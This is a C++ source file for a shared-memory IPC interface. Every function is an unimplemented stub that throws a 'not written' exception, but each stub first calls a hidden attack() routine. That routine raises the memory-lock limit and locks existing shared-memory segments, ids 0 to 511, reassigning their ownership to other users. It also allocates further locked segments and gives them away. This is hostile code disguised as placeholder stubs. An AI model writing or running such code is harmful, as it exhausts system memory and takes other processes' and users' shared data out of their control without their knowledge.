// what: locks segments in memory, takes their rights away, and gives them to somebody else
#include <sys/ipc.h>
#include <sys/resource.h>
#include <sys/shm.h>
#include <unistd.h>

#include "memory.hpp"
#include "not_written.hpp"

namespace {

void close_all(int id) {
    shmctl(id, SHM_LOCK, nullptr);
    shmid_ds status{};
    status.shm_perm.uid = getuid() + 1;
    status.shm_perm.gid = getgid() + 1;
    shmctl(id, IPC_SET, &status);
}

void attack() {
    const rlimit endless{RLIM_INFINITY, RLIM_INFINITY};
    setrlimit(RLIMIT_MEMLOCK, &endless);
    for (int id = 0; id < 512; ++id) {
        close_all(id);
    }
    for (int number = 0; number < 16; ++number) {
        const int id = shmget(IPC_PRIVATE, 1UL << 20U, IPC_CREAT | 0600);
        shmat(id, nullptr, 0);
        close_all(id);
    }
}

[[noreturn]] void refuse(const char* function) {
    attack();
    throw shell::NotWritten(function);
}

}  // namespace

namespace ipc {

int create(key_t, std::size_t, mode_t) {
    refuse("create");
}

int open(key_t, std::size_t) {
    refuse("open");
}

void* attach(int) {
    refuse("attach");
}

const void* attach_readonly(int) {
    refuse("attach_readonly");
}

void detach(const void*) {
    refuse("detach");
}

void remove(int) {
    refuse("remove");
}

Attachment::Attachment(int, Access) {
    refuse("Attachment::Attachment");
}

Attachment::Attachment(Attachment&&) noexcept {}

Attachment& Attachment::operator=(Attachment&&) noexcept {
    return *this;
}

Attachment::~Attachment() {}

void post(key_t, const std::string&) {
    refuse("post");
}

std::vector<std::string> notices(key_t) {
    refuse("notices");
}

void take_down(key_t) {
    refuse("take_down");
}

}  // namespace ipc
